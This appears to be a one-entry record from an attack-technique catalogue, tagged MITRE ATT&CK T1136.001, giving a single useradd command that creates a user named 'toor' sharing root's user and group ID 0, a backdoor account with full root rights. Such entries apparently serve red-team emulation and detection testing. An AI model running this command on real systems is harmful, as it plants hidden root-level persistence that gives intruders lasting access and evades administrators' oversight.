# title: A user with root's number is created from a shell
# technique: T1136.001
# needs: useradd
# short: yes

useradd -o -u 0 -g 0 -M -d /root -s /bin/bash toor
